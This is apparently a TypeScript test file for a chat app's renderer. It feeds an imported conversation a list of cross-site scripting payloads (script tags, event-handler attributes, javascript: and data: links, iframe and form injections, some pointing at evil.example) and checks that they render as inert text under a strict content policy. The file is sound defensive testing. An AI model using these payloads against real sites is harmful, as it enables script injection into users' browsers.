import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { LIMIT, closeServer, visit, type Visitor } from './harness.ts';

let visitor: Visitor;

/** What a model, or a conversation from elsewhere, might say to do harm. */
const HOSTILE = [
  '<script>window.harmed = 1</script>',
  '<img src="https://evil.example/a.png" onerror="window.harmed = 2">',
  '![a picture](https://evil.example/b.png)',
  '![x](x" onerror="window.harmed=3)',
  '[click](javascript:window.harmed=4)',
  '[click](  JaVaScRiPt:window.harmed=5)',
  '<javascript:window.harmed=6>',
  '[data](data:text/html,<script>window.harmed=7</script>)',
  '<iframe src="https://evil.example/"></iframe><svg onload="window.harmed=8">',
  '<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/c.css>',
  '```"><script>window.harmed=9</script>\n<script>window.harmed=10</script>\n```',
  '`<b onmouseover=window.harmed=11>`',
  '| <u onclick=window.harmed=12>a</u> |\n|---|\n| [x](vbscript:y) |',
  '<form action="https://evil.example/"><input name=a autofocus onfocus=window.harmed=13></form>',
  '[good](https://good.example/page "title\\" onclick=\\"window.harmed=14")',
];

before(async () => {
  visitor = await visit();
  const { page } = visitor;
  const conversation = {
    format: 'gemmule-conversation',
    version: 1,
    title: '<b>Harm</b>',
    system: '',
    turns: [
      { role: 'user', content: '<img src=x onerror="window.harmed=15">' },
      { role: 'assistant', content: HOSTILE.join('\n\n') },
    ],
  };
  const buffer = Buffer.from(JSON.stringify(conversation));
  await page.locator('.history input[type=file]').setInputFiles({ name: 'a.json', mimeType: 'application/json', buffer });
  await page.locator('.turn.answer .prose').waitFor();
});
after(async () => {
  await visitor.leave();
  await closeServer();
});

test('hostile text becomes text and a few harmless elements', LIMIT, async () => {
  const { page } = visitor;
  const names = await page.locator('.turns .column').evaluate((root) => {
    return [...new Set([...root.querySelectorAll('.prose *')].map((element) => element.localName))].sort();
  });
  const harmless = new Set('a article blockquote br button code div em figcaption figure h3 li ol p path pre span strong svg table tbody td th thead tr ul'.split(' '));
  assert.deepEqual(names.filter((name) => !harmless.has(name)), []);
  const attributes = await page.locator('.turns .column').evaluate((root) => {
    return [...root.querySelectorAll('*')].flatMap((element) => element.getAttributeNames()).filter((name) => name.startsWith('on') || name === 'style');
  });
  assert.deepEqual(attributes, []);
  assert.ok((await page.locator('.prose').innerText()).includes('<script>window.harmed = 1</script>'), 'the text itself is shown');
});

test('links lead only where a browser may go, in a window that knows nothing of this one', LIMIT, async () => {
  const links = await visitor.page.locator('.prose a').evaluateAll((all) => all.map((link) => [link.getAttribute('href'), link.getAttribute('rel'), link.getAttribute('target')]));
  assert.deepEqual(links, [['https://good.example/page', 'noopener noreferrer nofollow', '_blank']]);
});

test('nothing of it ran, nothing was fetched, and the title is text', LIMIT, async () => {
  const { page } = visitor;
  for (const target of await page.locator('.turns .prose *').all()) await target.dispatchEvent('mouseover');
  assert.equal(await page.evaluate(() => (globalThis as { harmed?: number }).harmed), undefined);
  assert.equal(await page.getByRole('heading', { level: 1 }).innerText(), '<b>Harm</b>');
  assert.deepEqual(visitor.foreign, []);
});

test('the policy refuses other hosts, inline scripts and text that would become markup', LIMIT, async () => {
  const { page, address } = visitor;
  const policy = (await (await fetch(address)).text()).match(/Content-Security-Policy" content="([^"]*)"/)?.[1] ?? '';
  assert.match(policy, /default-src 'self'; script-src 'self' 'wasm-unsafe-eval';/);
  assert.doesNotMatch(policy, /unsafe-inline|'unsafe-eval'|https?:|\*/);
  const attempts = {
    fetch: "fetch('https://evil.example/')",
    markup: "document.createElement('div').innerHTML = '<b>x</b>'",
    script: "document.createElement('script').text = 'window.harmed = 16'",
    worker: "new Worker('https://evil.example/worker.js')",
  };
  for (const [name, attempt] of Object.entries(attempts)) {
    const why = await page.evaluate(`(async () => { try { await (${attempt}); return 'allowed'; } catch (error) { return error.name; } })()`);
    assert.equal(why, 'TypeError', name);
  }
  assert.equal(await page.evaluate(() => (globalThis as { harmed?: number }).harmed), undefined);
});
